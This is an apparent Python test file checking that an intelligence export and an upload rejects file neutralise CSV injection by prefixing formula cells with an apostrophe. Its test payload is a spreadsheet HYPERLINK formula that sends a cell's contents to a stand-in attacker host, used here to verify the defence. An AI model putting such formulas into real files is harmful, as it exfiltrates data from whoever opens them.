"""An intelligence label, or a partner file's value, written as a formula is exported as plain
text (OWASP, CSV Injection): the intelligence export and the upload rejects file."""

from __future__ import annotations

import csv
import io

from saferplaces.apps.intelligence import services
from saferplaces.apps.uploads.models import UploadKind
from saferplaces.apps.uploads.services import create_upload, execute_upload
from tests.apps.uploads.conftest import BAD_ROWS, police_bytes, uploaded

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_a_formula_label_is_exported_as_text(intel, signed_in_client):
    services.update_entity(intel.boss, version=intel.boss.version, changes={"label": PAYLOAD},
                           by=intel.analyst)
    client = signed_in_client(intel.analyst)
    response = client.post(f"/intelligence/entities/{intel.boss.pk}/export/",
                           {"acknowledge": "on"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    labels = {row["from"] for row in rows} | {row["to"] for row in rows}
    assert "'" + PAYLOAD in labels
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())


def test_a_formula_in_a_partner_file_is_text_in_the_rejects_file(partnership):
    bad = [list(BAD_ROWS[1])]
    bad[0][6] = PAYLOAD  # the Location column of a row rejected for its month
    user = partnership.user("owner", "analyst")
    upload = execute_upload(create_upload(user, upload_file=uploaded(
        "2024-03-essex-street.csv", police_bytes(bad)), kind=UploadKind.POLICE_UK))
    rows = list(csv.DictReader(io.StringIO(bytes(upload.rejects).decode("utf-8"))))
    assert [row["Location"] for row in rows] == ["'" + PAYLOAD]
